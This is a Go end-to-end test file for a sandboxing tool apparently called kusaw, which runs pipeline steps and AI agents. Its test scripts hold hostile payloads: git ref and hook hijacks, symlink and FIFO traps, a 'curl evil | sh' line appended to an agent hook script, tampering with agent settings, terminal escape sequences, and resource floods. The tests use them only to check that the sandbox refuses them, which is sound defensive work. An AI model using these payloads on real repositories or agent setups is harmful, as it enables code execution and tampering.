package e2e

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The seam with the host (docs/sandbox.md, "What a step leaves behind"):
// whatever a sandboxed step could write is hostile input to what kusaw
// does afterwards outside. Each attack below runs as root and as a normal
// user (uid 65534); each must leave the user's branches and files as they
// were, end in bounded time, and leave every record verifiable.

// seamUIDs are the users the attacks run as: root and nobody when the test
// is root, otherwise the test's own user.
func seamUIDs() []int {
	if os.Geteuid() == 0 {
		return []int{0, 65534}
	}
	return []int{os.Geteuid()}
}

// seamDir makes a factory folder outside /tmp (the sandbox's /tmp is
// private, which would hide the repository whatever kusaw does), owned by
// uid, with the app repository in it.
func seamDir(t *testing.T, uid int) (dir, app string) {
	t.Helper()
	dir, err := os.MkdirTemp("/var/tmp", "kusaw-seam-")
	if err != nil {
		t.Fatal(err)
	}
	if os.Getenv("KUSAW_SEAM_KEEP") == "" {
		t.Cleanup(func() { os.RemoveAll(dir) })
	}
	os.Chmod(dir, 0o755)
	app = newRepo(t, dir, "app")
	return dir, app
}

// chownAll hands the factory folder to uid, and lets uid run the binary.
func chownAll(t *testing.T, dir string, uid int) {
	t.Helper()
	if uid == os.Geteuid() {
		return
	}
	// What uid owns already is left alone: a chown moves a file's ctime,
	// and the trees kusaw keeps in its pool must change only by kusaw.
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if st, ok := fi.Sys().(*syscall.Stat_t); !ok || st.Uid != uint32(uid) || st.Gid != uint32(uid) {
			os.Lchown(p, uid, uid)
		}
		return nil
	})
	os.Chmod(filepath.Dir(kusawBin), 0o755)
}

// runKusawAs runs the binary as uid in dir, killed after limit: a kusaw
// that hangs on what a step left fails the test instead of hanging it.
func runKusawAs(t *testing.T, uid int, limit time.Duration, dir string, args ...string) result {
	t.Helper()
	return runKusawAsIn(t, uid, limit, dir, dir, args...)
}

// runKusawAsIn is runKusawAs with kusaw's home and secret store under
// envDir instead of dir.
func runKusawAsIn(t *testing.T, uid int, limit time.Duration, dir, envDir string, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	cmd := exec.CommandContext(ctx, kusawBin, args...)
	cmd.Dir = dir
	cmd.Env = testEnv(t, envDir)
	if uid != os.Geteuid() {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
		chownAll(t, dir, uid)
		chownAll(t, envDir, uid)
	}
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("kusaw %v did not end within %s (it hangs on what the step left)\n%s%s", args, limit, out.String(), errb.String())
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("kusaw %v: %v", args, err)
	}
	return result{out.String(), errb.String(), code}
}

// gitBounded runs git in a repository another user may own, and fails the
// test if it does not end (a FIFO left in the repository would hang it).
func gitBounded(t *testing.T, dir string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "git", append([]string{"-c", "safe.directory=*"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("git %v in %s hangs", args, dir)
	}
	if err != nil {
		t.Fatalf("git %v in %s: %v\n%s", args, dir, err, out)
	}
	return strings.TrimSpace(string(out))
}

// verifyRecords runs `kusaw log verify --strict` on every log of the runs.
func verifyRecords(t *testing.T, uid int, dir string) {
	t.Helper()
	var logs []string
	filepath.Walk(filepath.Join(dir, ".kusaw", "runs"), func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && (fi.Name() == "events.jsonl" || fi.Name() == "egress.log") {
			logs = append(logs, p)
		}
		return nil
	})
	if len(logs) == 0 {
		t.Fatal("no records to verify")
	}
	if res := runKusawAs(t, uid, time.Minute, dir, append([]string{"log", "verify", "--strict"}, logs...)...); res.code != 0 {
		t.Errorf("log verify --strict: exit %d\n%s%s", res.code, res.stdout, res.stderr)
	}
}

// seamAttacks: each is one pipeline of one sandboxed step. The script
// finds its branch's ref, reflog and private git folder as git inside
// reports them, so it attacks whatever kusaw gives it.
var seamAttacks = []struct {
	name, script string
	attempts     int
}{
	{"symbolic-ref", `printf 'ref: refs/heads/main\n' > "$REF.new" && mv -f "$REF.new" "$REF" && echo done`, 1},
	{"reflog-link", `mkdir -p "$(dirname "$LOG")" && ln -sfn "$VICTIM" "$LOG" && echo done`, 1},
	{"reflog-dangling", `mkdir -p "$(dirname "$LOG")" && ln -sfn "$DIR/created-by-step" "$LOG" && echo done`, 1},
	{"fifo-ref-folder", `mkfifo "$(dirname "$REF")/zz-fifo" && echo done`, 1},
	{"fifo-git-dir", `mkfifo "$G/locked" && rm -f "$G/logs/HEAD" && mkfifo "$G/logs/HEAD" && echo done`, 1},
	// The step's own commit object, in its private object folder, becomes
	// a FIFO: kusaw's import must not open it.
	{"fifo-object", `C=$(git rev-parse HEAD) && f=$GIT_OBJECT_DIRECTORY/$(echo $C | cut -c1-2)/$(echo $C | cut -c3-) && rm -f "$f" && mkfifo "$f" && mkdir -p "$GIT_OBJECT_DIRECTORY/info" && echo /nonexistent > "$GIT_OBJECT_DIRECTORY/info/alternates" && echo done`, 1},
	// A nested repository whose HEAD is a FIFO: kusaw's git add reads it.
	{"fifo-nested-repo", `mkdir -p sub/.git/refs sub/.git/objects && mkfifo sub/.git/HEAD && echo "gitdir: /proc/self/fd/0" > nested.txt && mkdir -p other && echo "gitdir: /nonexistent" > other/.git && echo done`, 1},
	// Attempt 1 fails and keeps its branch; attempt 2 moves that sibling
	// to main behind a dangling link that sorts first.
	{"sibling-dangling", `if [ "$KUSAW_ATTEMPT" = 1 ]; then exit 1; fi
S=$(dirname "$REF")/1
ln -s /nonexistent-kusaw "$(dirname "$REF")/0-dangling"
git rev-parse main > "$S.new" && mv -f "$S.new" "$S" && echo done`, 2},
}

const seamPrelude = `set -u
C=$(git rev-parse --git-common-dir) || exit 1
G=$(git rev-parse --git-dir) || exit 1
B=$(git symbolic-ref HEAD) || exit 1
REF=$C/$B
LOG=$C/logs/$B
echo "$KUSAW_ATTEMPT-$$" > step.txt
git add step.txt && git commit -q -m "step commit" || echo "commit inside failed"
echo "left for kusaw to commit" > dirty.txt
`

func TestSeamRefAttacks(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, app := seamDir(t, uid)
			victim := filepath.Join(dir, "victim.txt")
			writeFile(t, victim, "the user's file\n")
			var pipes, stepsY strings.Builder
			for _, a := range seamAttacks {
				writeFile(t, filepath.Join(dir, "scripts", a.name+".sh"), seamPrelude+a.script+"\n")
				fmt.Fprintf(&pipes, "  %s: [%s]\n", a.name, a.name)
				fmt.Fprintf(&stepsY, "  %s:\n    run: [sh, %s]\n    sandbox: required\n    attempts: %d\n    env: {VICTIM: %s, DIR: %s}\n",
					a.name, filepath.Join(dir, "scripts", a.name+".sh"), a.attempts, victim, dir)
			}
			writeFile(t, filepath.Join(dir, "factory.yaml"), "version: 1\nrepos:\n  app: {path: app}\npipelines:\n"+pipes.String()+"steps:\n"+stepsY.String())
			mainBefore := git(t, app, "rev-parse", "main")
			for _, a := range seamAttacks {
				t.Run(a.name, func(t *testing.T) {
					res := runKusawAs(t, uid, time.Minute, dir, "run", a.name)
					if strings.Contains(res.stderr, "panic") {
						t.Fatalf("kusaw panicked:\n%s", res.stderr)
					}
					// The attack must have been made, or this proves nothing.
					id := runIDOf(t, res)
					adir := filepath.Join(dir, ".kusaw", "runs", id, "steps", a.name, fmt.Sprint(a.attempts))
					if out, err := os.ReadFile(filepath.Join(adir, "stdout.log")); err != nil || !strings.Contains(string(out), "done") {
						errs, _ := os.ReadFile(filepath.Join(adir, "stderr.log"))
						t.Fatalf("the attack did not run (%v):\n%s%s\n%s%s", err, out, errs, res.stdout, res.stderr)
					}
					if got := gitBounded(t, app, "rev-parse", "main"); got != mainBefore {
						t.Errorf("main moved from %s to %s", mainBefore, got)
					}
					if got := gitBounded(t, app, "show", "main:README"); got != "app" {
						t.Errorf("main:README reads %q", got)
					}
					if got := readFile(t, filepath.Join(app, "README")); got != "app\n" {
						t.Errorf("the checkout's README reads %q", got)
					}
					if got := readFile(t, victim); got != "the user's file\n" {
						t.Errorf("the host file the step linked to changed: %q", got)
					}
					if _, err := os.Lstat(filepath.Join(dir, "created-by-step")); err == nil {
						t.Errorf("kusaw created the file a dangling link named")
					}
					// The user's own git still works on the repository.
					gitBounded(t, app, "branch", "-a")
					gitBounded(t, app, "for-each-ref")
					gitBounded(t, app, "worktree", "list")
					gitBounded(t, app, "fsck", "--no-dangling")
					if a.name == "sibling-dangling" {
						b1 := "kusaw/attempts/" + id + "/" + a.name + "/1"
						if got := gitBounded(t, app, "log", "-1", "--format=%s", b1); !strings.HasPrefix(got, "kusaw:") {
							t.Errorf("the sibling branch %s was moved: its head is %q", b1, got)
						}
					}
				})
			}
			verifyRecords(t, uid, dir)
		})
	}
}

// runIDOf finds the run id in kusaw run's progress ("run ID: pipeline").
func runIDOf(t *testing.T, res result) string {
	t.Helper()
	for _, f := range strings.Fields(res.stdout + res.stderr) {
		if len(f) > 20 && strings.HasPrefix(f, "20") && strings.HasSuffix(f, ":") {
			return strings.TrimSuffix(f, ":")
		}
	}
	t.Fatalf("no run id in kusaw's output:\n%s%s", res.stdout, res.stderr)
	return ""
}

// The legitimate twin: a step commits, branches and tags inside its
// worktree; its commit reaches the run branch and the next step sees it.
func TestSeamStepCommitsBranchesTags(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, app := seamDir(t, uid)
			writeFile(t, filepath.Join(dir, "scripts", "make.sh"), `set -eu
echo inside > inside.txt
git add inside.txt
git commit -q -m "made inside"
git branch topic-inside
git tag v-inside
git commit -q --amend -m "made inside"
git log -1 --format=%s
echo ok
`)
			writeFile(t, filepath.Join(dir, "scripts", "check.sh"), `git log --format=%s | grep -qx "made inside" || { echo "the commit made inside is missing"; exit 1; }
test "$(cat inside.txt)" = inside && echo "saw it"
`)
			writeFile(t, filepath.Join(dir, "factory.yaml"), `version: 1
repos:
  app: {path: app}
pipelines:
  default: [make, check]
steps:
  make:
    run: [sh, `+filepath.Join(dir, "scripts", "make.sh")+`]
    sandbox: required
  check:
    run: [sh, `+filepath.Join(dir, "scripts", "check.sh")+`]
    sandbox: required
`)
			res := runKusawAs(t, uid, 2*time.Minute, dir, "run")
			id := runIDOf(t, res)
			adir := filepath.Join(dir, ".kusaw", "runs", id, "steps")
			if res.code != 0 {
				out, _ := os.ReadFile(filepath.Join(adir, "make", "1", "stdout.log"))
				errs, _ := os.ReadFile(filepath.Join(adir, "make", "1", "stderr.log"))
				t.Fatalf("run failed (exit %d)\n%s%s\nmake: %s%s", res.code, res.stdout, res.stderr, out, errs)
			}
			if out := readFile(t, filepath.Join(adir, "check", "1", "stdout.log")); !strings.Contains(out, "saw it") {
				t.Errorf("the next step did not see the commit:\n%s", out)
			}
			if s := gitBounded(t, app, "log", "--format=%s", "kusaw/"+id); !strings.Contains(s, "made inside") {
				t.Errorf("run branch lacks the commit made inside:\n%s", s)
			}
			verifyRecords(t, uid, dir)
		})
	}
}

// kusaw sandbox exec without a factory, in a plain checkout: the command
// cannot plant a hook, a git config that runs a program, an agent or editor
// setting (existing or new), or a new repository; the twin edits and
// creates project files as before.
func TestSeamExecNoFactoryProtectsCheckout(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, app := seamDir(t, uid)
			writeFile(t, filepath.Join(app, ".claude", "settings.json"), "{}\n")
			writeFile(t, filepath.Join(dir, "attack.sh"), `try() { if sh -c "$1" 2>/dev/null; then echo "ESCAPED: $1"; else echo "refused: $1"; fi; }
try 'mkdir -p .git/hooks && printf "#!/bin/sh\necho pwned\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout'
try 'printf "[core]\n\tfsmonitor = echo pwned\n" >> .git/config'
try 'printf "/tmp/evil\n" > .git/commondir'
try 'echo "{\"hooks\":{}}" > .claude/settings.json'
try 'echo "{}" > .mcp.json'
try 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'
echo changed > README && echo new > new.txt && echo legit
`)
			before := map[string]string{}
			for _, p := range []string{".git/config", ".claude/settings.json", "README"} {
				before[p] = readFile(t, filepath.Join(app, p))
			}
			res := runKusawAsIn(t, uid, time.Minute, app, dir, "sandbox", "exec", "--", "sh", filepath.Join(dir, "attack.sh"))
			if strings.Contains(res.stdout, "ESCAPED") || strings.Count(res.stdout, "refused:") != 6 || !strings.Contains(res.stdout, "legit") {
				t.Fatalf("exit %d\n%s%s", res.code, res.stdout, res.stderr)
			}
			if got := readFile(t, filepath.Join(app, ".git", "config")); got != before[".git/config"] {
				t.Errorf(".git/config changed:\n%s", got)
			}
			for _, p := range []string{".git/hooks/post-checkout", ".git/commondir", ".mcp.json", ".vscode/tasks.json"} {
				if _, err := os.Lstat(filepath.Join(app, p)); err == nil {
					t.Errorf("%s was created", p)
				}
			}
			// Twin: project files are the command's to change.
			if got := readFile(t, filepath.Join(app, "README")); got != "changed\n" {
				t.Errorf("README: %q", got)
			}
			if got := readFile(t, filepath.Join(app, "new.txt")); got != "new\n" {
				t.Errorf("new.txt: %q", got)
			}
			gitBounded(t, app, "status", "--short")
		})
	}
}

// runOnTerminal runs kusaw with its stdout and stderr on a fresh
// pseudo-terminal and returns what the terminal received.
func runOnTerminal(t *testing.T, dir string, args ...string) string {
	t.Helper()
	ptmx, pts := openPTY(t)
	defer ptmx.Close()
	var got bytes.Buffer
	read := make(chan struct{})
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := ptmx.Read(buf)
			got.Write(buf[:n])
			if err != nil {
				close(read)
				return
			}
		}
	}()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, kusawBin, args...)
	cmd.Dir = dir
	cmd.Env = append(testEnv(t, dir), "TERM=xterm")
	cmd.Stdout, cmd.Stderr = pts, pts
	if err := cmd.Run(); err != nil && exitCode(err) < 0 {
		t.Fatalf("kusaw %v: %v", args, err)
	}
	pts.Close()
	select {
	case <-read:
	case <-time.After(10 * time.Second):
		t.Fatal("the terminal's output did not end")
	}
	return got.String()
}

// A step that writes escape sequences (OSC 52 sets the clipboard, CSI 2J
// clears the screen) does not reach the user's terminal through logs and
// show; logs --raw and output into a file keep the bytes.
func TestSeamEscapeSequencesNeutralised(t *testing.T) {
	need(t, "git")
	const esc = "\x1b]52;c;cHduZWQ=\x07\x1b[2J"
	dir := factoryDir(t, `version: 1
repos:
  app: {path: ./app}
pipelines:
  default: [noisy]
steps:
  noisy:
    run: [sh, NOISY]
`, "app")
	writeFile(t, filepath.Join(dir, "factory.yaml"), strings.Replace(readFile(t, filepath.Join(dir, "factory.yaml")), "NOISY", filepath.Join(dir, "noisy.sh"), 1))
	writeFile(t, filepath.Join(dir, "noisy.sh"), `printf '\033]52;c;cHduZWQ=\007\033[2Jhidden\n'; printf '\033]0;title\007' >&2`+"\n")
	res := runKusaw(t, dir, "run")
	if res.code != 0 {
		t.Fatalf("run: %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	id := onlyRun(t, dir)
	if out := readFile(t, filepath.Join(dir, ".kusaw", "runs", id, "steps", "noisy", "1", "stdout.log")); !strings.Contains(out, esc) {
		t.Fatalf("the step did not write the sequence: %q", out)
	}
	logs := runOnTerminal(t, dir, "logs", id)
	if strings.ContainsAny(logs, "\x1b\x07") || !strings.Contains(logs, "^[]52;c;cHduZWQ=^G^[[2Jhidden") || !strings.Contains(logs, "^[]0;title^G") {
		t.Errorf("logs on a terminal: %q", logs)
	}
	// show prints what an agent's result said when it failed.
	f := buildFakes(t)
	adir := agentFactory(t, f.Claude, `pipelines:
  default: [agent]
steps:
  agent:
    prompt: do it
    env: {FAKE_AGENT_SCENARIO: is_error_exit0, FAKE_AGENT_ERROR_TEXT: "\e]52;c;cHduZWQ=\a\e[2Jhidden", CLAUDE_CODE_OAUTH_TOKEN: {secret: agent.token}}
`)
	// run's progress on a terminal shows the failed attempt's message.
	prog := runOnTerminal(t, adir, "run")
	if strings.ContainsAny(prog, "\x07") || strings.Contains(prog, "\x1b]52") || !strings.Contains(prog, "^[]52;c;cHduZWQ=^G") {
		t.Errorf("run progress on a terminal: %q", prog)
	}
	aid := onlyRun(t, adir)
	if rec := readFile(t, filepath.Join(adir, ".kusaw", "runs", aid, "steps", "agent", "1", "attempt.json")); !strings.Contains(rec, `\u001b]52`) {
		t.Fatalf("the agent's text did not reach the record: %s", rec)
	}
	show := runOnTerminal(t, adir, "show", aid)
	if strings.ContainsAny(show, "\x1b\x07") || !strings.Contains(show, "^[]52;c;cHduZWQ=^G^[[2Jhidden") {
		t.Errorf("show on a terminal: %q", show)
	}
	if piped := runKusaw(t, adir, "show", aid); !strings.Contains(piped.stdout, "\x1b]52") {
		t.Errorf("show into a pipe lost the bytes: %q", piped.stdout)
	}
	// Twins: the bytes stay for --raw and for a pipe.
	if raw := runOnTerminal(t, dir, "logs", "--raw", id); !strings.Contains(raw, esc) {
		t.Errorf("logs --raw lost the bytes: %q", raw)
	}
	if piped := runKusaw(t, dir, "logs", id); !strings.Contains(piped.stdout, esc) {
		t.Errorf("logs into a pipe lost the bytes: %q", piped.stdout)
	}
	verifyRecords(t, os.Geteuid(), dir)
}

// A step rewrites the script the next step's setup runs. Setup on that
// commit runs inside the next step's sandbox: the rewritten script cannot
// touch the host, and setup still installs what the step needs.
func TestSeamSetupRunsStepCodeOnlySandboxed(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, app := seamDir(t, uid)
			writeFile(t, filepath.Join(app, "setup.sh"), "echo deps > deps.txt\n")
			git(t, app, "add", "setup.sh")
			git(t, app, "commit", "-q", "-m", "setup script")
			pwned := filepath.Join(dir, "pwned")
			writeFile(t, filepath.Join(dir, "write.sh"), `test -f deps.txt || { echo "setup did not run before the first step"; exit 1; }
printf 'touch %s 2>/dev/null; echo deps > deps.txt\n' "$PWNED" > setup.sh && echo rewrote
`)
			writeFile(t, filepath.Join(dir, "use.sh"), `test "$(cat deps.txt)" = deps && echo "deps ok"
`)
			writeFile(t, filepath.Join(dir, "factory.yaml"), `version: 1
repos:
  app: {path: app}
setup:
  - [sh, setup.sh]
pipelines:
  default: [write, use]
steps:
  write:
    run: [sh, `+filepath.Join(dir, "write.sh")+`]
    sandbox: required
    env: {PWNED: `+pwned+`}
  use:
    run: [sh, `+filepath.Join(dir, "use.sh")+`]
    sandbox: required
`)
			res := runKusawAs(t, uid, 2*time.Minute, dir, "run")
			id := runIDOf(t, res)
			steps := filepath.Join(dir, ".kusaw", "runs", id, "steps")
			if res.code != 0 {
				o1, _ := os.ReadFile(filepath.Join(steps, "write", "1", "stdout.log"))
				e2, _ := os.ReadFile(filepath.Join(steps, "use", "1", "stderr.log"))
				t.Fatalf("run: %d\n%s%s\nwrite: %s\nuse stderr: %s", res.code, res.stdout, res.stderr, o1, e2)
			}
			if !strings.Contains(readFile(t, filepath.Join(steps, "write", "1", "stdout.log")), "rewrote") {
				t.Fatal("the attack did not run")
			}
			if _, err := os.Lstat(pwned); err == nil {
				t.Fatal("setup ran the code a sandboxed step wrote outside the sandbox")
			}
			if out := readFile(t, filepath.Join(steps, "use", "1", "stdout.log")); !strings.Contains(out, "deps ok") {
				t.Errorf("setup did not install the dependencies for the next step: %q", out)
			}
			ev1 := readFile(t, filepath.Join(steps, "write", "1", "events.jsonl"))
			ev2 := readFile(t, filepath.Join(steps, "use", "1", "events.jsonl"))
			if !strings.Contains(ev1, `"where":"host"`) || !strings.Contains(ev2, `"where":"sandbox"`) {
				t.Errorf("setup.placed events: write %v, use %v", strings.Contains(ev1, `"where":"host"`), strings.Contains(ev2, `"where":"sandbox"`))
			}
			verifyRecords(t, uid, dir)
			// A setup command that fails inside the sandbox fails the
			// attempt as setup.failed, not as the step's own failure.
			writeFile(t, filepath.Join(dir, "write.sh"), "printf 'exit 3\\n' > setup.sh && echo rewrote\n")
			res = runKusawAs(t, uid, 2*time.Minute, dir, "run")
			id = runIDOf(t, res)
			rec := readFile(t, filepath.Join(dir, ".kusaw", "runs", id, "steps", "use", "1", "attempt.json"))
			if res.code == 0 || !strings.Contains(rec, `"reason": "setup.failed"`) || !strings.Contains(rec, "inside the sandbox") {
				t.Errorf("a failing setup inside the sandbox: exit %d\n%s", res.code, rec)
			}
			// validate says which rule applies to each step.
			v := runKusawAs(t, uid, time.Minute, dir, "validate")
			if !strings.Contains(v.stdout, "step use: setup runs on the host on the run's starting commit; on commits a step of the run wrote, inside this step's sandbox") {
				t.Errorf("validate does not say where setup runs:\n%s%s", v.stdout, v.stderr)
			}
		})
	}
}

// sandbox.resources: a bounded process flood, a bounded memory hog and an
// output flood each end their attempt, never the machine; where a cgroup
// enforces the limit (root here) the attempt says which limit it reached.
// The twin runs the same limits with a step that stays under them.
// Every attack is bounded by itself (200 processes, 256 MiB, 50 MiB), so
// a limit that failed would not take the machine either.
func TestSeamResourceLimits(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, _ := seamDir(t, uid)
			scripts := map[string]string{
				"flood":  `for i in $(seq 200); do (sleep 4) & done; wait; echo all-started`,
				"hog":    `x=$(head -c 268435456 /dev/zero | tr '\0' a); echo "held ${#x}"`,
				"chatty": `head -c 52428800 /dev/zero; echo after`,
				"calm":   `for i in 1 2 3; do (sleep 0.1) & done; wait; x=$(head -c 1048576 /dev/zero | tr '\0' a); echo "fine ${#x}"`,
			}
			var y strings.Builder
			y.WriteString("version: 1\nrepos:\n  app: {path: app}\npipelines:\n")
			for name := range scripts {
				fmt.Fprintf(&y, "  %s: [%s]\n", name, name)
			}
			y.WriteString("steps:\n")
			for name, sc := range scripts {
				writeFile(t, filepath.Join(dir, name+".sh"), sc+"\n")
				fmt.Fprintf(&y, "  %s:\n    run: [sh, %s]\n    sandbox: {mode: required, resources: {pids: 64, memory: 64MiB, output: 1MiB}}\n", name, filepath.Join(dir, name+".sh"))
			}
			writeFile(t, filepath.Join(dir, "factory.yaml"), y.String())
			cgroups := uid == 0 && os.Geteuid() == 0
			check := func(name, limit string) {
				t.Helper()
				res := runKusawAs(t, uid, 2*time.Minute, dir, "run", name)
				id := runIDOf(t, res)
				adir := filepath.Join(dir, ".kusaw", "runs", id, "steps", name, "1")
				rec := readFile(t, filepath.Join(adir, "attempt.json"))
				out, _ := os.ReadFile(filepath.Join(adir, "stdout.log"))
				if limit == "" {
					if res.code != 0 || !strings.Contains(string(out), "fine 1048576") {
						t.Errorf("%s: the step under its limits failed (%d):\n%s%s\n%s", name, res.code, res.stdout, res.stderr, rec)
					}
					return
				}
				if res.code == 0 {
					t.Errorf("%s: the attempt passed:\n%s\n%s", name, out, rec)
				}
				if limit == "output" || cgroups {
					if !strings.Contains(rec, `"reason": "resource_limit"`) || !strings.Contains(rec, "reached its "+limit+" limit") {
						t.Errorf("%s: want resource_limit naming %s:\n%s", name, limit, rec)
					}
				}
				if limit == "output" && len(out) > 1<<20 {
					t.Errorf("output: stdout.log holds %d bytes", len(out))
				}
				if strings.Contains(string(out), "all-started") || strings.Contains(string(out), "held 268435456") {
					t.Errorf("%s: the flood got past its limit: %s", name, out)
				}
			}
			check("flood", "pids")
			check("hog", "memory")
			check("chatty", "output")
			check("calm", "")
			verifyRecords(t, uid, dir)
			// sandbox check --verbose says how each limit is enforced for
			// this user: a cgroup as root here, rlimits otherwise.
			v := runKusawAs(t, uid, time.Minute, dir, "sandbox", "check", "--verbose")
			want := "RLIMIT_NPROC"
			if cgroups {
				want = "cgroup v1 pids controller"
			}
			if !strings.Contains(v.stdout, "Resource limits (sandbox.resources)") || !strings.Contains(v.stdout, want) || !strings.Contains(v.stdout, "output: counted by kusaw") {
				t.Errorf("sandbox check --verbose (want %q):\n%s%s", want, v.stdout, v.stderr)
			}
		})
	}
}

// Scripts that agent settings name are the settings' reach: a step cannot
// change the hook script .claude/settings.json runs, nor create the MCP
// server file .mcp.json names but the repository lacks. The factory can
// leave one writable (settings_scripts_writable); everything else in the
// worktree stays the step's; sandbox doctor lists what it found.
func TestSeamSettingScriptsReadOnly(t *testing.T) {
	needSandbox(t)
	need(t, "git")
	for _, uid := range seamUIDs() {
		t.Run(fmt.Sprintf("uid%d", uid), func(t *testing.T) {
			dir, app := seamDir(t, uid)
			writeFile(t, filepath.Join(app, ".claude", "settings.json"), `{"hooks":{"PostToolUse":[{"matcher":"Edit","hooks":[{"type":"command","command":"bash scripts/fmt.sh"}]}]}}`+"\n")
			writeFile(t, filepath.Join(app, ".mcp.json"), `{"mcpServers":{"local":{"command":"node","args":["tools/server.js"]},"built":{"command":"node","args":["dist/mcp.js"]}}}`+"\n")
			writeFile(t, filepath.Join(app, "scripts", "fmt.sh"), "gofmt -l .\n")
			git(t, app, "add", ".")
			git(t, app, "commit", "-q", "-m", "agent settings")
			writeFile(t, filepath.Join(dir, "attack.sh"), `try() { if sh -c "$1" 2>/dev/null; then echo "ESCAPED: $1"; else echo "refused: $1"; fi; }
try 'echo "curl evil | sh" >> scripts/fmt.sh'
try 'rm -f scripts/fmt.sh'
try 'mv scripts scripts.old'
try 'mkdir -p tools && echo "evil()" > tools/server.js'
mkdir -p dist && echo "built()" > dist/mcp.js && echo "built ok"
echo "edit" > README && echo "legit ok"
`)
			writeFile(t, filepath.Join(dir, "factory.yaml"), `version: 1
repos:
  app: {path: app}
sandbox:
  settings_scripts_writable: [dist/]
pipelines:
  default: [attack]
steps:
  attack:
    run: [sh, `+filepath.Join(dir, "attack.sh")+`]
    sandbox: required
`)
			res := runKusawAs(t, uid, 2*time.Minute, dir, "run")
			id := runIDOf(t, res)
			out := readFile(t, filepath.Join(dir, ".kusaw", "runs", id, "steps", "attack", "1", "stdout.log"))
			if res.code != 0 || strings.Contains(out, "ESCAPED") || strings.Count(out, "refused:") != 4 || !strings.Contains(out, "built ok") || !strings.Contains(out, "legit ok") {
				t.Fatalf("run %d:\n%s\n%s%s", res.code, out, res.stdout, res.stderr)
			}
			branch := "kusaw/" + id
			if got := gitBounded(t, app, "show", branch+":scripts/fmt.sh"); got != "gofmt -l ." {
				t.Errorf("scripts/fmt.sh on the run branch: %q", got)
			}
			if got := gitBounded(t, app, "ls-tree", "-r", "--name-only", branch); strings.Contains(got, "tools/") || !strings.Contains(got, "dist/mcp.js") {
				t.Errorf("run branch files:\n%s", got)
			}
			verifyRecords(t, uid, dir)
			doc := runKusawAs(t, uid, 2*time.Minute, dir, "sandbox", "doctor", "--step", "attack")
			for _, want := range []string{"agent settings name scripts/fmt.sh", "agent settings name tools/server.js", "dist/mcp.js", "settings_scripts_writable"} {
				if !strings.Contains(doc.stdout, want) {
					t.Errorf("doctor does not list %q:\n%s%s", want, doc.stdout, doc.stderr)
				}
			}
		})
	}
}
